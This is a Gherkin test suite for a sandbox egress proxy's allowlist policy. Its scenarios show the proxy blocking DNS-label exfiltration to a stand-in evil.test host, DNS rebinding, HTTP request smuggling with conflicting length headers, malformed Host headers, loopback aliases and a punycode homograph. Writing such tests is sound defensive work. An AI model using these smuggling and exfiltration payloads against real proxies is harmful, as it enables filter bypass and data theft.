@needs:factory
Feature: Odd requests
  What the documentation leaves open, and the reference has decided: docs/egress-policy.md, row by row, as far as it can be asked
  from inside. What must not arrive is judged at the origin.

  @EGR-20
  Rule: Every row of docs/egress-policy.md

    Background:
      Given a sandboxed step
      And the network is allowlist
      And the host "{nonce}.pub.test" is allowed
      And the host "{nonce}.echo.test" is allowed

    # NVIDIA/OpenShell 1169: a look-up carries data out in its labels
    @case:N02
    Scenario Outline: a name that is not listed is never looked up, by <way>
      When the step runs the probe "connect --proxy <way> the-secret.{nonce}.evil.test:80 + connect --proxy <way> {nonce}.pub.test:80"
      Then "the-secret.{nonce}.evil.test" is looked up never
      And "{nonce}.pub.test" is looked up at least once
      And nothing arrives at "{nonce}.evil.test"
      And bare, the name "the-secret.{nonce}.evil.test" is looked up

      Examples:
        | way     |
        | connect |
        | http    |

    @case:N02
    Scenario Outline: a name whose port is not listed is never looked up, by <way>
      Given the host "a.{nonce}.evil.test:443" is allowed
      When the step runs the probe "connect --proxy <way> a.{nonce}.evil.test:80"
      Then "a.{nonce}.evil.test" is looked up never
      And bare, the name "a.{nonce}.evil.test" is looked up

      Examples:
        | way     |
        | connect |
        | http    |

    @case:A05
    Scenario Outline: a request by <way> to a name of the kind <script> is one look-up
      Given the host "{nonce}.<script>.test" is allowed
      When the step runs the probe "connect --proxy <way> {nonce}.<script>.test:80"
      Then the origin "pub" answers
      And "{nonce}.<script>.test" is looked up once
      And planted, with an empty list, nothing arrives at "{nonce}.<script>.test"

      Examples:
        | way     | script |
        | connect | rebind |
        | http    | rebind |
        | connect | both   |
        | connect | cname  |

    # Row 61
    @case:A05
    Scenario Outline: where the answer changes, the next request by <way> is refused
      Given the host "{nonce}.rebind.test" is allowed
      And a service at every special address, on a port of its own
      When the step sends the proxy
        """
        <first> HTTP/1.1
        Host: {nonce}.rebind.test:{port}
        ---
        <second> HTTP/1.1
        Host: {nonce}.rebind.test:{port}
        """
      Then nothing arrives at loopback
      And the proxy answers with "<statuses>"
      And bare, a connection to "{nonce}.loopback.test:{port}" arrives

      Examples:
        | way  | first                                  | second                                 | statuses |
        | http | GET http://{nonce}.rebind.test:{port}/ | GET http://{nonce}.rebind.test:{port}/ | 200 403  |

    # Row 59: whoever mixes wants something
    Scenario Outline: where any address is private, none is reached: <script>
      Given the host "{nonce}.<script>.test" is allowed
      And a service at every special address, on a port of its own
      When the step runs the probe "connect --proxy connect {nonce}.<script>.test:{port} + connect --proxy http {nonce}.<script>.test:{port}"
      Then nothing arrives at a special address
      And nothing arrives at "{nonce}.pub.test"
      And no origin answers
      And bare, a connection to "{nonce}.pub.test:{port}" arrives

      Examples:
        | script     |
        | mixed      |
        | mixed-back |
        | mixed-6    |
        | mixed-private |

    # Row 76
    Scenario: the origin gets the Host of the URL
      When the step sends the proxy
        """
        GET http://{nonce}.echo.test/ HTTP/1.1
        Host: {nonce}.pub.test
        Connection: close
        """
      Then every request to "{nonce}.echo.test" has the line "Host: {nonce}.echo.test"
      And nothing arrives at "{nonce}.pub.test"
      And planted, with an empty list, nothing arrives at "{nonce}.echo.test"

    # Row 79: clients send what they like there, and nothing is done with it
    Scenario: Host of a CONNECT does not count
      When the step sends the proxy
        """
        CONNECT {nonce}.pub.test:80 HTTP/1.1
        Host: {nonce}.evil.test:80
        """
      Then the proxy answers with "200"
      And something arrives at "{nonce}.pub.test"
      And nothing arrives at "{nonce}.evil.test"
      And planted, with an empty list, nothing arrives at "{nonce}.pub.test"

    Scenario Outline: refused with <status>: <what>
      When the step sends the proxy
        """
        <head>
        """
      Then the proxy answers with "<status>"
      And nothing arrives at "{nonce}.echo.test"
      And planted, with the entry "{nonce}.echo.test", the same to "{nonce}.echo.test:80" arrives

      Examples:
        | what                                     | status | head                                                                                                     |
        | two Host headers                         | 400    | GET http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nHost: {nonce}.pub.test                  |
        | the same Host twice                      | 400    | GET http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nHost: {nonce}.echo.test                 |
        | no Host                                  | 400    | GET http://{nonce}.echo.test/ HTTP/1.1                                                                   |
        | https                                    | 400    | GET https://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test                                         |
        | ftp                                      | 400    | GET ftp://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test                                           |
        | ws                                       | 400    | GET ws://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test                                            |
        | OPTIONS *                                | 400    | OPTIONS * HTTP/1.1\nHost: {nonce}.echo.test                                                              |
        | a lower-case connect                     | 400    | connect {nonce}.echo.test:80 HTTP/1.1\nHost: {nonce}.echo.test                                           |
        | a user in the URL                        | 400    | GET http://u:p@{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test                                      |
        | a CONNECT with a body by its length      | 400    | CONNECT {nonce}.echo.test:80 HTTP/1.1\nHost: {nonce}.echo.test:80\nContent-Length: 3\n\nabc              |
        | a CONNECT with a body in chunks          | 400    | CONNECT {nonce}.echo.test:80 HTTP/1.1\nHost: {nonce}.echo.test:80\nTransfer-Encoding: chunked\n\n0\n     |
        | two different lengths                    | 400    | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nContent-Length: 3\nContent-Length: 4\n\nabcd |
        | a list of lengths                        | 400    | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nContent-Length: 3, 3\n\nabc            |
        | a length with a plus                     | 400    | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nContent-Length: +3\n\nabc              |
        | chunked, identity                        | 400    | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nTransfer-Encoding: chunked, identity\n\n0\n |
        | xchunked                                 | 400    | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nTransfer-Encoding: xchunked\n\n0\n     |
        | a blank before the colon                 | 400    | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nTransfer-Encoding : chunked\n\n0\n     |
        | a name in UTF-8                          | 400    | CONNECT {nonce}.b\\xc3\\xbccher.test:80 HTTP/1.1\nHost: {nonce}.echo.test                                |
        | digits of full width                     | 400    | CONNECT \\xef\\xbc\\x91\\xef\\xbc\\x92\\xef\\xbc\\x97.0.0.1:80 HTTP/1.1\nHost: {nonce}.echo.test         |
        | a label of 64 letters                    | 400    | CONNECT aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.{nonce}.echo.test:80 HTTP/1.1\nHost: {nonce}.echo.test |
        | a NUL in the name                        | 400    | CONNECT {nonce}\\0.echo.test:80 HTTP/1.1\nHost: {nonce}.echo.test                                        |

    # Rows 83, 95: the number is not decided, that it does not get through is
    Scenario Outline: does not get through: <what>
      When the step sends the proxy
        """
        <head>
        """
      Then the proxy does not let it through
      And nothing arrives at "{nonce}.echo.test"
      And planted, with the entry "{nonce}.echo.test", the same to "{nonce}.echo.test:80" arrives

      Examples:
        | what               | head                                                                                                        |
        | TRACE              | TRACE http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test                                           |
        | gzip, chunked      | POST http://{nonce}.echo.test/ HTTP/1.1\nHost: {nonce}.echo.test\nTransfer-Encoding: gzip, chunked\n\n0\n   |
        | HTTP/0.9           | GET http://{nonce}.echo.test/                                                                               |
        | HTTP/2             | PRI * HTTP/2.0\n\nSM\n                                                                                      |
        | SOCKS 4            | \\x04\\x01\\x00\\x50\\x17\\x03\\x00\\x01probe\\x00                                                          |
        | SOCKS 5            | \\x05\\x01\\x00                                                                                             |
        | the hello of TLS   | \\x16\\x03\\x01\\x00\\x05\\x01\\x00\\x00\\x01\\x00                                                          |

    # Row 80: a user who opens it in a browser
    Scenario: whoever takes the proxy for a server is told that it is one
      When the step sends the proxy
        """
        GET /path HTTP/1.1
        Host: {nonce}.echo.test
        """
      Then the proxy answers with "400"
      And an answer has "this is a proxy"
      And nothing arrives at "{nonce}.echo.test"
      And planted, with the entry "{nonce}.echo.test", the same to "{nonce}.echo.test:80" arrives

    # Row 90: a refusal ends a request, not a connection
    Scenario: a connection goes on after a request that was refused
      When the step sends the proxy
        """
        GET http://{nonce}.pub.test/ HTTP/1.1
        Host: {nonce}.pub.test
        ---
        GET http://{nonce}.evil.test/ HTTP/1.1
        Host: {nonce}.evil.test
        ---
        GET http://{nonce}.pub.test/ HTTP/1.1
        Host: {nonce}.pub.test
        """
      Then the proxy answers with "200 403 200"
      And "{nonce}.pub.test" gets 2 requests
      And nothing arrives at "{nonce}.evil.test"
      And planted, with an empty list, nothing arrives at "{nonce}.pub.test"

    # Row 89: clients that send on without waiting
    Scenario: what is sent at once with a CONNECT arrives first, and in order
      When the step sends the proxy
        """
        CONNECT {nonce}.echo.test:80 HTTP/1.1
        Host: {nonce}.echo.test:80

        GET /first HTTP/1.1
        Host: {nonce}.echo.test

        ---
        GET /second HTTP/1.1
        Host: {nonce}.echo.test
        """
      Then "{nonce}.echo.test" gets 2 requests
      And an answer has "GET /first"
      And an answer has "GET /second"
      And planted, with an empty list, nothing arrives at "{nonce}.echo.test"

    # Row 93: two readings of where a body ends are two requests, if anybody takes the other one
    Scenario Outline: a body with two lengths is one request: <order>
      When the step sends the proxy
        """
        POST http://{nonce}.echo.test/outer HTTP/1.1
        Host: {nonce}.echo.test
        <one>
        <other>

        0

        GET /smuggled HTTP/1.1
        Host: {nonce}.echo.test

        """
      Then "{nonce}.echo.test" gets 1 request
      And no request to "{nonce}.echo.test" has "content-length"
      And no request to "{nonce}.echo.test" has "/smuggled"
      And planted, with an empty list, nothing arrives at "{nonce}.echo.test"

      Examples:
        | order                     | one                        | other                      |
        | the length first          | Content-Length: 60         | Transfer-Encoding: chunked |
        | the length last           | Transfer-Encoding: chunked | Content-Length: 60         |

    # Rows 99 and 100
    Scenario Outline: <what> does not arrive
      When the step sends the proxy
        """
        GET http://{nonce}.echo.test/ HTTP/1.1
        Host: {nonce}.echo.test
        Connection: <listed>
        <header>
        """
      Then "{nonce}.echo.test" gets 1 request
      And no request to "{nonce}.echo.test" has "<name>"
      And planted, with an empty list, nothing arrives at "{nonce}.echo.test"

      Examples:
        | what                             | listed                  | header                              | name                |
        | a change to HTTP/2               | Upgrade, HTTP2-Settings | Upgrade: h2c                        | Upgrade             |
        | the settings of HTTP/2           | Upgrade, HTTP2-Settings | HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA | HTTP2-Settings |
        | a change to a WebSocket          | Upgrade                 | Upgrade: websocket                  | Upgrade             |
        | a change that nothing lists      | close                   | Upgrade: h2c                        | Upgrade             |
        | settings that nothing lists      | close                   | HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA | HTTP2-Settings |
        | what a connection lists          | X-Own                   | X-Own: of the hop                   | X-Own               |
        | what is for the proxy            | close                   | Proxy-Authorization: Basic eDp5     | Proxy-Authorization |
        | an old word of proxies           | close                   | Proxy-Connection: keep-alive        | Proxy-Connection    |

    # A header that the step lists must not take the framing, or the host, away
    Scenario: what a connection lists does not take Host away
      When the step sends the proxy
        """
        GET http://{nonce}.echo.test/ HTTP/1.1
        Host: {nonce}.echo.test
        Connection: Host, close
        """
      Then every request to "{nonce}.echo.test" has the line "Host: {nonce}.echo.test"
      And planted, with an empty list, nothing arrives at "{nonce}.echo.test"

    # Row 103
    Scenario Outline: an origin that answers with <what> is a failure of the origin: 502
      Given the host "{nonce}.<kind>.test" is allowed
      When the step sends the proxy
        """
        GET http://{nonce}.<kind>.test/ HTTP/1.1
        Host: {nonce}.<kind>.test
        Connection: close
        """
      Then the proxy answers with "502"
      And something arrives at "{nonce}.<kind>.test"
      And planted, with an empty list, nothing arrives at "{nonce}.<kind>.test"

      Examples:
        | what                                       | kind    |
        | a change of protocol that nobody asked for | switch  |
        | interim responses and no other             | interim |

    # Rows 41, 42, 46, 69
    @needs:ipv6
    Scenario Outline: the entry <entry> is the same place as <target>
      Given the host "<entry>" is allowed
      And a service at every special address, on a port of its own
      When the step runs the probe "connect --proxy connect <target>:{port}"
      Then the origin "host" answers
      And planted, with an empty list, no origin answers

      Examples:
        | entry     | target             |
        | [::1]     | [::1]              |
        | [::1]     | [0:0:0:0:0:0:0:1]  |
        | 127.0.0.1 | [::ffff:127.0.0.1] |
        | 127.0.0.1 | localhost          |
        | localhost | [::1]              |

    # Row 65: an entry names a name, not a place
    Scenario: a name and another name's place do not add up
      Given the host "{nonce}.private-10.test" is allowed
      And the host "localhost" is allowed
      And a service at every special address, on a port of its own
      When the step runs the probe "connect --proxy connect {nonce}.private-10.test:{port}"
      Then nothing arrives at a special address
      And bare, a connection to "{nonce}.private-10.test:{port}" arrives

    # Row 64
    Scenario: a name that leads to a place with an entry of its own reaches it
      Given the host "{nonce}.private-10.test" is allowed
      And the host "10.200.0.1" is allowed
      And a service at every special address, on a port of its own
      When the step runs the probe "connect --proxy connect {nonce}.private-10.test:{port}"
      Then the origin "private" answers
      And planted, with an empty list, no origin answers

    # Row 112
    Scenario Outline: a head of <what> is refused with 431
      When the step runs the shell command "tools/probe converse proxy "GET\shttp://{nonce}.echo.test/\sHTTP/1.1\r\nHost:\s{nonce}.echo.test\r\n<more>\r\n""
      Then the proxy answers with "431"
      And nothing arrives at "{nonce}.echo.test"
      And planted, with the entry "{nonce}.echo.test", the same to "{nonce}.echo.test:80" arrives

      Examples:
        | what         | more                                                               |
        | 200 headers  | $(seq -f 'X-%g:\\sv\\r\\n' 200 \| tr -d '\\012')                   |
        | 70,000 bytes | X-Long:\\s$(head -c 70000 /dev/zero \| tr '\\000' a)\\r\\n         |

    # Rows 24 to 26
    @case:M15
    Scenario: an entry in Unicode is the name that DNS has for it
      Given the host "bücher.{nonce}.pub.test" is allowed
      When the step runs the probe "connect --proxy connect xn--bcher-kva.{nonce}.pub.test:80"
      Then the origin "pub" answers
      And planted, with an empty list, nothing arrives at "{nonce}.pub.test"

    @case:M15
    Scenario: a name that only looks like a listed one is another
      Given the host "paypal.{nonce}.evil.test" is allowed
      When the step runs the probe "connect --proxy connect xn--pypal-4ve.{nonce}.evil.test:80"
      Then nothing arrives at "{nonce}.evil.test"
      And planted, with the entry "xn--pypal-4ve.{nonce}.evil.test", something arrives at "{nonce}.evil.test"
